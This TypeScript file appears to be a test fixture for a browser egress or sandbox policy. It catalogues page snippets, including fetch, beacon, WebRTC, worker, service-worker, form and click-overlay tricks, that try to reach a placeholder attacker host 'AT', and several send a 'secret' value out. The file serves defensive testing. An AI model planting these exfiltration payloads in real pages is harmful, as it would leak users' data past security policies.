/** A page that tries to reach the attacker in one way. `AT` stands for where that one listens, as host and port. */
export interface PageAttack {
  readonly name: string;
  readonly html: string;
  /** Further files of the same server: path and JavaScript or HTML. */
  readonly files?: Readonly<Record<string, string>>;
  /** An ordinary browser connects before it asks its policy, or asks none. No request is sent. */
  readonly connects?: boolean;
}

/** Covers the window, so that the person's click anywhere is one on it. */
const OVER = 'style="position:fixed;inset:0;display:block;width:100vw;height:100vh"';
const FETCH = 'fetch("http://AT/").catch(() => {})';

function script(code: string): string {
  return `<script>${code}</script>`;
}

function head(html: string): string {
  return `<!doctype html><head>${html}</head><body>x`;
}

const REQUESTS: Readonly<Record<string, string>> = {
  fetch: script('fetch("http://AT/?c=1", { mode: "no-cors" })'),
  "fetch with a body": script('fetch("http://AT/", { method: "POST", mode: "no-cors", body: "secret" })'),
  XMLHttpRequest: script('const x = new XMLHttpRequest(); x.open("GET", "http://AT/"); x.send()'),
  beacon: script('navigator.sendBeacon("http://AT/", "secret")'),
  EventSource: script('new EventSource("http://AT/")'),
  WebSocket: script('new WebSocket("ws://AT/")'),
  img: '<img src="http://AT/">',
  "img srcset": '<img srcset="http://AT/ 1x">',
  script: '<script src="http://AT/"></script>',
  "import()": script('import("http://AT/x.js").catch(() => {})'),
  stylesheet: head('<link rel="stylesheet" href="http://AT/">'),
  "@import": '<style>@import url("http://AT/");</style>',
  "url() of a style": '<p style="background:url(http://AT/)">x',
  font: '<style>@font-face { font-family: f; src: url("http://AT/f.woff2"); } p { font-family: f; }</style><p>x',
  video: '<video autoplay muted src="http://AT/"></video>',
  poster: '<video poster="http://AT/"></video>',
  track: script(
    'const v = document.createElement("video"), t = document.createElement("track"); t.src = "http://AT/"; t.default = true; v.append(t); v.crossOrigin = "anonymous"; document.body.append(v); t.track.mode = "showing"',
  ).replace("<script>", "<body><script>"),
  object: '<object data="http://AT/"></object>',
  embed: '<embed src="http://AT/">',
  "svg image": '<svg><image href="http://AT/"/></svg>',
  iframe: '<iframe src="http://AT/"></iframe>',
  "iframe in a data: frame": `<iframe src="data:text/html,<script>${FETCH.replaceAll('"', "'")}</script>"></iframe>`,
  "iframe of srcdoc": `<iframe srcdoc="<script>${FETCH.replaceAll('"', "'")}</script>"></iframe>`,
  "empty iframe": '<iframe id=f></iframe><script>f.contentWindow.fetch("http://AT/").catch(() => {})</script>',
  "blob: frame": script(
    'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<script>fetch(\'http://AT/\')</scr" + "ipt>"], { type: "text/html" })); document.documentElement.append(f)',
  ),
  "blob: worker": script(`new Worker(URL.createObjectURL(new Blob(['${FETCH}'])))`),
  "blob: shared worker": script(`new SharedWorker(URL.createObjectURL(new Blob(['${FETCH}'])))`),
  "data: worker": script(`new Worker('data:text/javascript,${FETCH}')`),
  "link prefetch": head('<link rel="prefetch" href="http://AT/">'),
  "link preload": head('<link rel="preload" as="image" href="http://AT/">'),
  "link modulepreload": head('<link rel="modulepreload" href="http://AT/x.js">'),
  "link icon": head('<link rel="icon" href="http://AT/">'),
  "link preconnect": head('<link rel="preconnect" href="http://AT/">'),
  WebRTC: script(
    'const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:AT" }, { urls: "turn:AT?transport=tcp", username: "secret", credential: "x" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))',
  ),
};

const NAVIGATIONS: Readonly<Record<string, string>> = {
  "location=": script('location = "http://AT/"'),
  "top.location": script('top.location = "http://AT/"'),
  "parent.location": script('parent.location = "http://AT/"'),
  "location= on a click": script('onclick = () => { (top ?? self).location = "http://AT/"; location = "http://AT/" }'),
  "meta refresh": head('<meta http-equiv="refresh" content="0; url=http://AT/">'),
  "base and a relative link": `${head('<base href="http://AT/">')}<a href="x" ${OVER}>x</a>`,
  "a link": `<a href="http://AT/" ${OVER}>x</a>`,
  "a link to a new tab": `<a href="http://AT/" target="_blank" ${OVER}>x</a>`,
  "a link to the whole tab": `<a href="http://AT/" target="_top" ${OVER}>x</a>`,
  "a link with a ping": `<a href="#" ping="http://AT/" ${OVER}>x</a>`,
  "a link that saves": `<a href="http://AT/" download ${OVER}>x</a>`,
  form: '<form action="http://AT/" method="post"><input name="s" value="secret"></form><script>document.forms[0].submit()</script>',
  "form to a new tab": `<form action="http://AT/" target="_blank"><button ${OVER}>x</button></form>`,
  "window.open": script('onclick = () => window.open("http://AT/")'),
  "window.open of a page of its own": script(
    'onclick = () => { const w = window.open("about:blank"); w?.document.write("<script>location = \'http://AT/\'</scr" + "ipt>") }',
  ),
  "a redirect of the server": script('location = "/leave"'),
  "a redirect of an image": '<img src="/leave">',
};

// Chromium 150 connects to where a frame or a link leads before it asks the policy that refuses to go there.
const CONNECTS = new Set([
  "iframe",
  "link preconnect",
  "WebRTC",
  "location=",
  "meta refresh",
  "a link",
  "a link to a new tab",
  "a link to the whole tab",
  "a link that saves",
  "form",
]);

export const PAGE_ATTACKS: readonly PageAttack[] = [
  ...Object.entries({ ...REQUESTS, ...NAVIGATIONS }).map(([name, html]) => ({
    name,
    html,
    connects: CONNECTS.has(name),
  })),
  {
    name: "worker of the server",
    html: script('new Worker("/worker.js")'),
    files: { "/worker.js": FETCH },
  },
  {
    name: "service worker that answers for the server",
    html: script(
      'navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready).then(() => setTimeout(() => { location = "/made" }, 200))',
    ),
    files: {
      "/sw.js": `onactivate = (e) => e.waitUntil(clients.claim()); onfetch = (e) => e.request.url.endsWith("/made") && e.respondWith(new Response("<script>location = 'http://AT/'</script>", { headers: { "Content-Type": "text/html" } }))`,
    },
  },
];
